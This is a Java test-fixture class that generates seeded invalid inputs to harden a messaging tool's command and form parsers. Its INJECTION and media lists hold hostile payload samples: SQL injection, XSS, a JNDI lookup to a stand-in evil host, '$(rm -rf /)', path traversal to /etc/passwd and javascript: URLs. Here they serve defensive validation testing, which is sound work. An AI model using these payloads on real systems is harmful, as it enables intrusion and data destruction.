package io.masscast.testing;

import io.masscast.core.policy.Excerpt;
import io.masscast.core.policy.Fields;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.function.Function;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * Seeded generators of bad input, for the hardening suites of every adapter. {@link #fields} makes values for
 * the compose form's fields, each wrong for its field whatever else the form holds (an adapter puts it in an
 * otherwise valid form: a command line, a Slack modal, Discord options); {@link #commandLines} makes whole
 * command lines for the command layer, covering every command, its keys and what can go wrong between tokens.
 * The same seed gives the same cases.
 */
public final class BadInputCases {

    /** A value for one compose field (a {@link Fields} key), as typed into a form; the reply must name the field. */
    public record FieldCase(String field, String value, String kind) {
        @Override
        public String toString() {
            return field + " " + kind + ": " + Excerpt.of(value);
        }
    }

    /** Who types a command line: the requester, an approver or an admin. */
    public enum Who {
        REQUESTER,
        APPROVER,
        ADMIN
    }

    /**
     * A whole command line; the reply must contain {@code expect}. Lines that need a campaign name MC-1, a
     * pending campaign of the requester's.
     */
    public record LineCase(Who who, String line, String expect, String kind) {
        @Override
        public String toString() {
            return who.name().toLowerCase(Locale.ROOT) + " " + kind + ": " + Excerpt.of(line);
        }
    }

    /** Control characters other than new line and tab. */
    static final List<Integer> CONTROLS = IntStream.concat(
                    IntStream.concat(IntStream.rangeClosed(0x00, 0x08), IntStream.rangeClosed(0x0B, 0x1F)),
                    IntStream.rangeClosed(0x7F, 0x9F))
            .boxed()
            .toList();
    /** Characters that show nothing: spaces, zero-width and format characters, fillers, blank patterns, RTL marks. */
    static final List<String> INVISIBLE = List.of(
            " ", "\u00A0", "\u2000", "\u2007", "\u200A", "\u202F", "\u205F", "\u3000", "\u200B", "\u200C", "\u200D",
            "\u2060", "\uFEFF", "\u00AD", "\u180E", "\u034F", "\uFE0F", "\u2800", "\u3164", "\u115F", "\u1160",
            "\uFFA0", "\u200E", "\u200F", "\u061C");

    static final List<String> DIRECTION_CONTROLS =
            List.of("\u202A", "\u202B", "\u202C", "\u202D", "\u202E", "\u2066", "\u2067", "\u2068", "\u2069");
    /** Words of many scripts, right-to-left ones and emoji: fine in a text, never a list, number or date. */
    static final List<String> WORDS = List.of(
            "Neues",
            "set",
            "Привет",
            "мир",
            "مرحبا",
            "بالجميع",
            "שלום",
            "新しい",
            "セット",
            "🔥",
            "👩‍👩‍👧",
            "Ünïcödé",
            "ελληνικά",
            "हिन्दी",
            "ไทย",
            "한국어",
            "Ώρα",
            "ß",
            "ǅ",
            "İstanbul");

    static final List<String> INJECTION = List.of(
            "'; DROP TABLE campaigns;--",
            "\" OR \"1\"=\"1",
            "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/x}",
            "{{7*7}}",
            "../../etc/passwd",
            "%00",
            "$(rm -rf /)",
            "`id`",
            "\\x00",
            "<@U000ADMIN>",
            "<!channel>",
            "@everyone",
            "||",
            "\u001B]8;;https://evil.example\u0007link\u001B]8;;\u0007",
            "\u001B[2J\u001B[H",
            "a\u0000b",
            "Robert'); --",
            "*",
            "%s%s%s%n",
            "\\u0000");
    static final List<String> BAD_NUMBERS = List.of(
            "1e-999999999",
            "1e999999999",
            "1E3",
            "2e1",
            "NaN",
            "Infinity",
            "-Infinity",
            "0x10",
            "0b101",
            "1.234,50",
            "1,234.50",
            "12,50",
            "٣",
            "３",
            "١٢٫٥٠",
            "１２.５０",
            "𝟏𝟐",
            "१२",
            "1_000",
            "+3",
            ".5",
            "5.",
            "$1$2",
            "1 000",
            "12.50 USD",
            "€12",
            "1/2",
            "½",
            "(5)",
            "--5",
            "5-",
            "\u200B",
            "12\u202E",
            "١");
    static final List<String> BAD_DATES = List.of(
            "-999999999-01-01",
            "+999999999-12-31",
            "+10000-01-01",
            "2026-02-30",
            "2026-13-01",
            "0000-00-00",
            "1900-01-01",
            "2015-12-31",
            "2999-01-01",
            "2026/01/01",
            "01.02.2026",
            "٢٠٢٦-٠١-٠١",
            "２０２６-０１-０１",
            "2026-01-01T00:00",
            "yesterday",
            "NaN",
            "2026-1-1",
            "20260101",
            "2026-01-01 10:00",
            "\u200B2026-01-01");
    static final List<String> BAD_SEND_TIMES = List.of(
            "+999999999-12-31 23:59",
            "-999999999-01-01 00:00",
            "2026-02-30 20:00",
            "25:00",
            "tomorrow 25:00",
            "today 24:00",
            "in -2h",
            "in 99999h",
            "in 9999d",
            "yesterday",
            "2026-03-19 10:00",
            "2025-01-01 10:00",
            "2026-03-20 10:00",
            "in 0m",
            "soon",
            "2026-03-21 20:00:60",
            "٢٠٢٦-٠٣-٢١ ٢٠:٠٠",
            "2026-03-21T20:00Z",
            "2999-01-01 10:00",
            "tomorrow",
            "in 2 weeks");
    static final List<String> BAD_FLAGS =
            List.of("maybe", "2", "yes!", "ja", "✓", "y", "true1", "-1", "on/off", "nein", "да", "nope", "ye s");
    static final List<String> BAD_MEDIA = List.of(
            "ftp://cdn.example.com/a.jpg",
            "javascript:alert(1)",
            "file:///etc/passwd",
            "http://",
            "https://",
            "//cdn.example.com/a.jpg",
            "../../a.jpg",
            "0",
            "-1",
            "99999999999999999999",
            "upload:short",
            "ofauth_upload_",
            "photo.jpg",
            "data:image/png;base64,AAAA",
            "https://cdn.example.com/a b.jpg",
            "٤٨٢١٣٣٧٧",
            "48213377.5");
    /** What someone might type as files: only a platform's attachments (or, in the terminal, its typer) make files. */
    static final List<String> TYPED_FILES = List.of(
            "set1.jpg",
            "~/sets/set1.jpg",
            "F0123ABCD",
            "https://cdn.example.com/a.jpg",
            "C:\\sets\\a.jpg",
            "upload:6f1c2a90-2b7e-4c1e",
            "48213377");

    static final List<String> BAD_FAN_IDS = List.of(
            "bob",
            "-5",
            "0",
            "1.5",
            "1e9",
            "٥١٢٧٧٣١٠",
            "99999999999999999999",
            "５１２",
            "0x1F",
            "51277310;DROP",
            "@fan",
            "+51277310");
    /** Look-alikes of real list names, with Cyrillic letters. */
    static final List<String> HOMOGLYPH_LISTS = List.of("Fаns", "VIP whаles", "Dо not PPV", "VIР", "Whаles", "Сhurned");

    private final Random random;

    private BadInputCases(long seed) {
        this.random = new Random(seed);
    }

    /** {@code count} bad values for the given compose fields. */
    public static List<FieldCase> fields(long seed, int count, List<String> fields) {
        BadInputCases cases = new BadInputCases(seed);
        return IntStream.range(0, count)
                .mapToObj(i -> cases.fieldCase(fields.get(cases.random.nextInt(fields.size()))))
                .toList();
    }

    /**
     * {@code count} command lines: bad field values in an otherwise valid {@code new} or {@code edit MC-1} (built
     * from {@code validNew}, the arguments of a {@code new} that would be accepted), and bad tokens, ids, reasons,
     * policy and bind arguments, and lines too long to read.
     */
    public static List<LineCase> commandLines(long seed, int count, String validNew) {
        BadInputCases cases = new BadInputCases(seed);
        return IntStream.range(0, count).mapToObj(i -> cases.lineCase(validNew)).toList();
    }

    /** {@code key="value"} with every item of a multi-item field quoted on its own. */
    public static String argument(String field, String value) {
        boolean items = List.of(Fields.LISTS, Fields.EXCLUDE, Fields.USERS, Fields.MEDIA)
                .contains(field);
        List<String> parts = items ? List.of(value.split(",", -1)) : List.of(value);
        return field + "=" + parts.stream().map(BadInputCases::quoted).collect(Collectors.joining(","));
    }

    /** A value in double quotes, with backslashes and quotes escaped as the command syntax wants. */
    public static String quoted(String value) {
        return "\"" + value.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
    }

    // ---- field values

    private FieldCase fieldCase(String field) {
        return switch (field) {
            case Fields.TEXT -> text();
            case Fields.LISTS, Fields.EXCLUDE -> listName(field);
            case Fields.USERS -> pick(field, "fan id", BAD_FAN_IDS, INJECTION, this::huge);
            case Fields.SUBSCRIBED_AFTER -> pick(field, "date", BAD_DATES, farDates(), this::huge);
            case Fields.FILES -> pick(field, "typed file", TYPED_FILES, INJECTION, this::huge);
            case Fields.MEDIA ->
                pick(field, "media", BAD_MEDIA, INJECTION, n -> "https://cdn.example.com/" + "a".repeat(2_100 + n));
            case Fields.PREVIEW ->
                pick(field, "number", BAD_NUMBERS, List.of("-1", "1000", "5", "2", "99999"), this::hugeNumber);
            case Fields.PRICE ->
                pick(
                        field,
                        "number",
                        BAD_NUMBERS,
                        List.of("12.505", "2.99", "200.01", "-5", "0.01", "1000"),
                        this::hugeNumber);
            case Fields.LOCKED, Fields.MARKDOWN -> pick(field, "flag", BAD_FLAGS, INJECTION.subList(0, 6), this::huge);
            case Fields.AT -> pick(field, "send time", BAD_SEND_TIMES, farSendTimes(), this::huge);
            default -> throw new IllegalArgumentException("no generator for " + field);
        };
    }

    /** One of three families: a fixed list, a second list, or a generated huge value of the given size. */
    private FieldCase pick(
            String field, String what, List<String> fixed, List<String> more, Function<Integer, String> huge) {
        int family = random.nextInt(10);
        if (family < 5) {
            return new FieldCase(field, oneOf(fixed), "bad " + what);
        }
        if (family < 8) {
            return new FieldCase(field, oneOf(more), "bad " + what);
        }
        if (family < 9) {
            return new FieldCase(
                    field,
                    withControl(oneOf(fixed.isEmpty() ? more : fixed) + "1"),
                    what + " with a control character");
        }
        return new FieldCase(field, huge.apply(random.nextInt(18_000)), "huge " + what);
    }

    private FieldCase text() {
        return switch (random.nextInt(7)) {
            case 0, 1 -> new FieldCase(Fields.TEXT, withControl(sentence()), "control character");
            case 2 -> new FieldCase(Fields.TEXT, invisibleOnly(), "only invisible characters");
            case 3 -> new FieldCase(Fields.TEXT, insert(sentence(), oneOf(DIRECTION_CONTROLS)), "direction override");
            case 4 ->
                new FieldCase(
                        Fields.TEXT,
                        insert(sentence(), random.nextBoolean() ? "\uD83D" : "\uDD25"),
                        "broken surrogate");
            case 5 ->
                new FieldCase(
                        Fields.TEXT,
                        insert(sentence(), oneOf(List.of("\uFFFE", "\uFFFF", "\uFDD0", "\uFDEF"))),
                        "noncharacter");
            default -> new FieldCase(Fields.TEXT, longText(10_001 + random.nextInt(12_000)), "longer than 10,000");
        };
    }

    private FieldCase listName(String field) {
        String value = switch (random.nextInt(7)) {
            case 0 -> oneOf(HOMOGLYPH_LISTS);
            case 1 -> oneOf(INJECTION).replace(",", ";");
            case 2 -> withControl(oneOf(WORDS));
            case 3 -> invisibleOnly().replace(" ", "\u00A0");
            case 4 -> "x".repeat(101 + random.nextInt(18_000));
            case 5 -> oneOf(WORDS) + " " + oneOf(WORDS);
            default -> oneOf(WORDS) + random.nextInt(1000);
        };
        return new FieldCase(field, value, "no such list");
    }

    // ---- command lines

    private LineCase lineCase(String validNew) {
        int family = random.nextInt(100);
        if (family < 45) {
            FieldCase bad = fieldCase(oneOf(Fields.DRAFT)); // a test's keys have their own cases
            return new LineCase(
                    Who.REQUESTER,
                    "new " + replace(validNew, bad.field(), argument(bad.field(), bad.value())),
                    bad.field(),
                    "new, " + bad.kind() + " in " + bad.field());
        }
        if (family < 60) {
            FieldCase bad = fieldCase(oneOf(Fields.DRAFT)); // a test's keys have their own cases
            return new LineCase(
                    Who.REQUESTER,
                    "edit MC-1 " + argument(bad.field(), bad.value()),
                    bad.field(),
                    "edit, " + bad.kind() + " in " + bad.field());
        }
        if (family < 72) {
            return tokens(validNew);
        }
        if (family < 78) {
            return campaignId();
        }
        if (family < 84) {
            return reason();
        }
        if (family < 92) {
            return policy();
        }
        if (family < 97) {
            return bind();
        }
        return random.nextBoolean()
                ? new LineCase(
                        Who.REQUESTER,
                        "new " + argument(Fields.TEXT, longText(25_001 + random.nextInt(20_000))) + " lists=fans",
                        "characters long",
                        "line too long")
                : new LineCase(
                        Who.REQUESTER,
                        oneOf(List.of(
                                "sned MC-1",
                                "аpprove MC-1",
                                "newx text=hi",
                                "🔥",
                                "APPROVE!",
                                "show\u0000 MC-1",
                                "list\u200B")),
                        "There is no /masscast",
                        "unknown command");
    }

    /** Unknown, repeated and stray tokens, misquoting and escapes around an otherwise valid compose. */
    private LineCase tokens(String validNew) {
        String word = oneOf(WORDS);
        return switch (random.nextInt(9)) {
            case 0 -> {
                String key = oneOf(List.of("prize", "txt", "list", "foo_bar", "ключ", "at_time", "priceee", "🔥"));
                yield new LineCase(Who.REQUESTER, "new " + validNew + " " + key + "=1", key, "unknown key");
            }
            case 1 ->
                new LineCase(
                        Who.REQUESTER, "new " + validNew + " " + "price=3", "price is given twice", "duplicate key");
            case 2 -> {
                // a control that is not also a space (those separate words like a space does)
                String stray = random.nextBoolean()
                        ? word
                        : insert(
                                word + word,
                                new String(Character.toChars(oneOf(CONTROLS.stream()
                                        .filter(c -> !Character.isWhitespace(c))
                                        .toList()))));
                yield new LineCase(Who.REQUESTER, "new " + validNew + " " + stray, Excerpt.of(stray), "stray word");
            }
            case 3 ->
                new LineCase(
                        Who.REQUESTER,
                        "new text=" + word + " " + word + " is up " + validNew.replaceFirst("text=\"[^\"]*\"", ""),
                        Excerpt.of(word),
                        "unquoted text");
            case 4 ->
                new LineCase(
                        Who.REQUESTER,
                        "new " + validNew.replaceFirst("text=\"([^\"]*)\"", "text=“$1"),
                        "never closed",
                        "unclosed quote");
            case 5 ->
                new LineCase(
                        Who.REQUESTER,
                        "new " + validNew.replaceFirst("text=\"([^\"]*)\"", "text=\"$1\"\"x\""),
                        "Right after the quote closed",
                        "quote glued to a quote");
            case 6 -> {
                char escape = "qUxC0%é".charAt(random.nextInt(7));
                yield new LineCase(
                        Who.REQUESTER,
                        "new " + validNew.replaceFirst("text=\"", "text=\"C:\\\\" + escape),
                        "is not an escape",
                        "unknown escape");
            }
            case 7 ->
                new LineCase(
                        Who.REQUESTER,
                        "new " + validNew.replaceFirst("text=\"([^\"]*)\"", "text=say\"$1\""),
                        "inside",
                        "quote inside a word");
            default ->
                new LineCase(
                        Who.REQUESTER,
                        "new " + validNew.replace(" lists=", " lists=" + word + ", "),
                        "lists",
                        "unknown list after a comma and a space");
        };
    }

    private LineCase campaignId() {
        String command =
                oneOf(List.of("show", "approve", "cancel", "unsend", "mark-sent", "send-again", "edit", "reject"));
        String id = oneOf(List.of(
                "MC-٣",
                "MC-0x1",
                "MC-9999999999",
                "MC-1.5",
                "MC-",
                "MC‐1",
                "MC-1e3",
                "MC-+1",
                "MC-\u200B1",
                "MC-1\u001B[2J",
                "-1",
                "x".repeat(5_000)));
        if (command.equals("reject")) {
            return new LineCase(
                    Who.APPROVER, command + " " + id + " because", "is not a campaign id", "bad campaign id");
        }
        if (random.nextInt(4) == 0) {
            String extra = oneOf(WORDS);
            return new LineCase(Who.APPROVER, command + " MC-1 " + extra, Excerpt.of(extra), "extra word after the id");
        }
        return new LineCase(Who.APPROVER, command + " " + id, "is not a campaign id", "bad campaign id");
    }

    private LineCase reason() {
        String reason = switch (random.nextInt(4)) {
            case 0 -> withControl(sentence());
            case 1 -> invisibleOnly();
            case 2 -> insert(sentence(), oneOf(DIRECTION_CONTROLS));
            default -> longText(1_001 + random.nextInt(20_000));
        };
        return new LineCase(Who.APPROVER, "reject MC-1 " + reason, "reason", "bad reject reason");
    }

    private LineCase policy() {
        String key = oneOf(List.of("approvals", "self_approval", "daily_cap", "min_gap", "quiet", "approvers"));
        String value = switch (key) {
            case "approvals" -> oneOf(BAD_NUMBERS, List.of("0", "4", "-1", "99999999999"));
            case "self_approval" -> oneOf(BAD_FLAGS);
            case "daily_cap" -> oneOf(BAD_NUMBERS, List.of("-1", "1001", "99999999999"));
            case "min_gap" ->
                oneOf(List.of("9999h", "-1h", "1d", "soon", "1e3m", "٣h", "90", "169h", "10081m", "2h30m"));
            case "quiet" ->
                oneOf(List.of(
                        "25:00-08:00",
                        "23:00",
                        "23:00-08:00-09:00",
                        "٢٣:٠٠-٠٨:٠٠",
                        "late",
                        "23:60-08:00",
                        "23-08",
                        "11pm-8am"));
            default ->
                oneOf(List.of(
                        "bob,<script>",
                        "a/b",
                        "x".repeat(65),
                        String.join(",", Collections.nCopies(51, "u")).replaceAll("u", "u" + random.nextInt(9)),
                        "bob\u0007"));
        };
        boolean withControl = random.nextInt(6) == 0 && !key.equals("approvers");
        return new LineCase(
                Who.ADMIN,
                "policy " + key + "=" + quoted(withControl ? withControl(value) : value),
                key,
                "bad policy " + key);
    }

    private LineCase bind() {
        String connection = "connection=conn_demo2";
        String zone = "zone=Europe/Berlin";
        String creator = "";
        String expect;
        switch (random.nextInt(4)) {
            case 0 -> {
                connection = "connection="
                        + quoted(oneOf(
                                List.of("conn demo", "conn_\u0000", "../etc", "c".repeat(101), "conn_٣", "<@U1>")));
                expect = "connection";
            }
            case 1 -> {
                zone = "zone="
                        + quoted(oneOf(List.of(
                                "Mars/Base",
                                "Europe/Berlin\u0000",
                                "+25:00",
                                "z".repeat(5_000),
                                "٣",
                                "Europe/../Berlin",
                                "GMT+99")));
                expect = "zone";
            }
            case 2 -> {
                creator = " creator="
                        + quoted(oneOf(List.of(
                                withControl("Mila"),
                                invisibleOnly(),
                                "m".repeat(101),
                                insert("Mila", oneOf(DIRECTION_CONTROLS)),
                                "Mila\nRose")));
                expect = "creator";
            }
            default -> {
                creator = " approvers=" + quoted(oneOf(List.of("bob,<script>", "a/b", "x".repeat(65))));
                expect = "approvers";
            }
        }
        return new LineCase(Who.ADMIN, "bind " + connection + " " + zone + creator, expect, "bad bind " + expect);
    }

    // ---- pieces

    private static String replace(String validNew, String field, String argument) {
        String pattern = "(^|\\s)" + field + "=(\"[^\"]*\"|\\S*)";
        String replaced = validNew.replaceFirst(pattern, "$1" + java.util.regex.Matcher.quoteReplacement(argument));
        return replaced.equals(validNew) && !validNew.contains(field + "=") ? validNew + " " + argument : replaced;
    }

    private String sentence() {
        return IntStream.range(0, 1 + random.nextInt(6))
                .mapToObj(i -> oneOf(WORDS))
                .collect(Collectors.joining(" "));
    }

    private String longText(int length) {
        StringBuilder text = new StringBuilder();
        while (text.length() < length) {
            text.append(oneOf(WORDS)).append(' ');
        }
        return text.substring(0, length);
    }

    private String withControl(String value) {
        return insert(value, new String(Character.toChars(oneOf(CONTROLS))));
    }

    /** {@code inserted} inside {@code value} (not at either end, where a line's own trimming would drop it). */
    private String insert(String value, String inserted) {
        int at = value.length() < 2 ? value.length() : 1 + random.nextInt(value.length() - 1);
        if (at > 0 && at < value.length() && Character.isLowSurrogate(value.charAt(at))) {
            at--;
        }
        return value.substring(0, at) + inserted + value.substring(at);
    }

    private String invisibleOnly() {
        return IntStream.range(0, 1 + random.nextInt(8))
                .mapToObj(i -> oneOf(INVISIBLE))
                .collect(Collectors.joining());
    }

    /** {@code 200 + extra} characters (UTF-16 units) of one kind. */
    private String huge(int extra) {
        String unit = oneOf(List.of("9", "x", "🔥", "ش"));
        return unit.repeat((200 + extra) / unit.length());
    }

    private String hugeNumber(int extra) {
        return random.nextBoolean() ? "1" + "0".repeat(20 + extra) : "1e" + (999_999_000 + extra);
    }

    private List<String> farDates() {
        return List.of(
                String.format("%+d-01-01", -1 - random.nextInt(999_999_998)),
                (2100 + random.nextInt(7_000)) + "-06-15",
                (1000 + random.nextInt(1_015)) + "-06-15");
    }

    private List<String> farSendTimes() {
        return List.of(
                String.format("%+d-01-01 10:00", 10_000 + random.nextInt(999_989_999)),
                (2027 + random.nextInt(7_000)) + "-06-15 20:00",
                (1000 + random.nextInt(1_025)) + "-06-15 20:00");
    }

    private <T> T oneOf(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private <T> T oneOf(List<T> values, List<T> more) {
        List<T> all = new ArrayList<>(values);
        all.addAll(more);
        return oneOf(all);
    }
}
